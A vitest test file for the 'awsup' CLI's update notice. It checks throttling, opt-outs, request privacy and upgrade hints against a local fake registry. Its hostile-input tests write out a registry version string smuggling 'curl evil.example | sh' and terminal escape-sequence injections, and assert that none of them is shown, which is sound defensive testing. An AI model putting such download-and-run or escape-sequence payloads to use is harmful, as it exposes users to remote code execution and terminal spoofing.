import {spawn} from '@lydell/node-pty'
import fc from 'fast-check'
import {cpSync, existsSync, mkdirSync, readFileSync, utimesSync, writeFileSync} from 'node:fs'
import {createServer, type IncomingMessage, type Server} from 'node:http'
import type {AddressInfo} from 'node:net'
import path from 'node:path'
import {setTimeout} from 'node:timers/promises'
import {stripVTControlCharacters} from 'node:util'
import {afterAll, beforeAll, describe, expect, test} from 'vitest'
import {isNamedAwsup, isNewer, upgradeOf} from '../../src/cli/update/notice.js'
import {awsup, BINARY, emptyFolder, surroundings} from '../_helpers/cli.js'

const source = path.resolve(BINARY, '..', '..')
let prefix: string
let binary: string
let registry: Server
let asked: IncomingMessage[] = []
let answer: string | undefined = '{"latest": "99.1.0", "next": "100.0.0"}'

beforeAll(async () => {
  prefix = emptyFolder()
  // As `npm install --global` lays it: no package.json above node_modules.
  binary = installIn(path.join(prefix, 'lib'))
  registry = createServer((request, response) => {
    asked.push(request)
    if (answer !== undefined) response.end(answer)
  })
  await new Promise<void>((resolve) => registry.listen(0, '127.0.0.1', resolve))
})
afterAll(() => {
  registry.closeAllConnections()
  registry.close()
})

function installIn(folder: string): string {
  const root = path.join(folder, 'node_modules', 'awsup')
  mkdirSync(root, {recursive: true})
  for (const part of ['bin', 'dist', 'package.json', 'oclif.manifest.json'])
    cpSync(path.join(source, part), path.join(root, part), {recursive: true})
  return path.join(root, 'bin', 'run.js')
}

interface Run {
  readonly home: string
  readonly program?: string
  readonly args?: readonly string[]
  readonly env?: Readonly<Record<string, string>>
}

/** In a terminal, as a person has it; answers what was shown. */
async function run({home, program = binary, args = ['whoami', '--sandbox'], env = {}}: Run): Promise<string> {
  const child = spawn(process.execPath, [program, ...args], {
    name: 'xterm-256color',
    cols: 200,
    // A home around the folder that awsup runs in would be no place for what a checkout may not bring.
    cwd: emptyFolder(),
    env: {
      ...surroundings(home),
      HOME: home,
      XDG_STATE_HOME: '',
      CI: '',
      AWSUP_NO_UPDATE_NOTICE: '',
      npm_config_registry: `http://127.0.0.1:${(registry.address() as AddressInfo).port}/`,
      ...env,
    },
  })
  let shown = ''
  child.onData((data) => (shown += data))
  await new Promise<void>((resolve) => child.onExit(() => resolve()))
  return stripVTControlCharacters(shown)
}

const knownIn = (home: string): string => path.join(home, '.local', 'state', 'awsup', 'update.json')

/** The process that asks outlives the command. */
async function until(isSo: () => boolean): Promise<void> {
  for (let tries = 0; tries < 500 && !isSo(); tries++) await setTimeout(20)
  expect(isSo()).toBe(true)
}

async function homeThatKnows(): Promise<string> {
  const home = emptyFolder()
  asked = []
  answer = '{"latest": "99.1.0", "next": "100.0.0"}'
  await run({home})
  await until(() => existsSync(knownIn(home)) && readFileSync(knownIn(home), 'utf8').includes('99.1.0'))
  return home
}

describe('a newer version', () => {
  test('is asked for by the first run, which shows nothing, and shown by the next, which does not ask again', async () => {
    const home = emptyFolder()
    asked = []
    expect(await run({home})).not.toContain('available')
    await until(() => existsSync(knownIn(home)) && readFileSync(knownIn(home), 'utf8').includes('99.1.0'))
    expect(await run({home})).toContain('awsup 99.1.0 is available')
    expect(asked.length).toBe(1)
  })

  test('is asked for again after a day', async () => {
    const home = await homeThatKnows()
    const before = Date.now() / 1000 - 25 * 60 * 60
    utimesSync(knownIn(home), before, before)
    await run({home})
    await until(() => asked.length === 2)
  })

  test('is asked for by a request that says nothing of who asks', async () => {
    await homeThatKnows()
    expect(asked.map(({method, url}) => [method, url])).toEqual([['GET', '/-/package/awsup/dist-tags']])
    // The rest is what fetch always says: of the connection, and of languages ("*").
    const {accept, 'user-agent': agent, ...rest} = asked[0]?.headers ?? {}
    expect({accept, agent}).toEqual({accept: 'application/json', agent: 'awsup'})
    const usual = ['accept-encoding', 'accept-language', 'connection', 'host', 'sec-fetch-mode']
    expect(Object.keys(rest).filter((name) => !usual.includes(name))).toEqual([])
  })

  test.each([
    ['in CI', {CI: 'true'}],
    ['where it is switched off', {AWSUP_NO_UPDATE_NOTICE: '1'}],
    ['where all such notices are', {NO_UPDATE_NOTIFIER: '1'}],
  ])('%s is neither asked for nor shown', async (_title, env) => {
    const home = await homeThatKnows()
    expect(await run({home, env})).not.toContain('available')
    const before = Date.now() / 1000 - 25 * 60 * 60
    utimesSync(knownIn(home), before, before)
    asked = []
    await run({home, env})
    await setTimeout(500)
    expect(asked).toEqual([])
  })

  test.each([
    ['--json', ['whoami', '--sandbox', '--json']],
    ['credentials', ['credentials', 'dev', '--sandbox']],
  ])('is not shown with %s, which programs read', async (_title, args) => {
    const home = await homeThatKnows()
    expect(await run({home, args})).not.toContain('available')
  })

  test('is not shown where stderr is no terminal', async () => {
    const home = await homeThatKnows()
    expect((await awsup(home, ['whoami', '--sandbox'])).stderr).not.toContain('available')
  })

  test('is not asked for by the package of a project, whose package.json says which version it wants', async () => {
    const project = emptyFolder()
    writeFileSync(path.join(project, 'package.json'), '{}')
    asked = []
    const home = emptyFolder()
    await run({home, program: installIn(project)})
    await setTimeout(500)
    expect({asked, known: existsSync(knownIn(home))}).toEqual({asked: [], known: false})
  })
})

describe('what the registry answers', () => {
  test.each([
    ['an escape sequence', String.raw`{"latest": "9.9.9\u001b[31m"}`],
    ['a sentence', '{"latest": "9.9.9 curl evil.example | sh"}'],
    ['a version before its release', '{"latest": "99.0.0-beta.1"}'],
    ['no JSON', '<html>'],
    ['a list', '["99.0.0"]'],
    ['an older version', '{"latest": "0.0.1"}'],
  ])('%s is never shown', async (_title, said) => {
    const home = emptyFolder()
    asked = []
    answer = said
    await run({home})
    await until(() => asked.length === 1)
    await setTimeout(300)
    expect(await run({home})).not.toMatch(/available|evil|beta/)
  })

  test('never comes: the command ends all the same, and the process that asks too', async () => {
    const home = emptyFolder()
    asked = []
    answer = undefined
    expect(await run({home})).not.toContain('available')
    await until(() => asked.length === 1)
    const [request] = asked
    await until(() => request?.socket.destroyed === true)
  })

  test('in the file is not trusted either', async () => {
    const home = await homeThatKnows()
    writeFileSync(knownIn(home), String.raw`{"latest": "99.0.0\u001b[2Jevil"}`)
    expect(await run({home})).not.toMatch(/available|evil/)
    writeFileSync(knownIn(home), 'x'.repeat(2000))
    expect(await run({home})).not.toContain('available')
  })
})

test('versions are compared by their numbers', () => {
  const part = fc.nat({max: 200})
  fc.assert(
    fc.property(fc.tuple(part, part, part), fc.tuple(part, part, part), (left, right) => {
      const [a, b] = [left, right].map(([major, minor, patch]) => (major * 1000 + minor) * 1000 + patch)
      expect(isNewer(left.join('.'), right.join('.'))).toBe((a ?? 0) > (b ?? 0))
    }),
  )
})

test.each([
  ['/opt/homebrew/Cellar/awsup/1.0.0/libexec/lib/node_modules/awsup', false, 'brew upgrade awsup'],
  ['/usr/lib/node_modules/awsup', false, 'npm install --global awsup@latest'],
  [String.raw`C:\Users\ann\scoop\apps\awsup\current`, true, 'scoop update awsup'],
  ['/home/ann/.local/bin', true, 'https://github.com/awsup/awsup/releases/latest'],
])('awsup in %s is upgraded in its own way', (root, executable, way) => {
  expect(upgradeOf(root, executable)).toBe(way)
})

test('an executable with a name of its own is a version that was chosen: it does not ask for newer ones', () => {
  const files = [
    '/usr/bin/awsup',
    String.raw`C:\bin\awsup.exe`,
    String.raw`C:\bin\AWSUP.EXE`,
    '/opt/awsup-0.1',
    '/tmp/awsup.old',
  ]
  expect(files.map(isNamedAwsup)).toEqual([true, true, true, false, false])
})
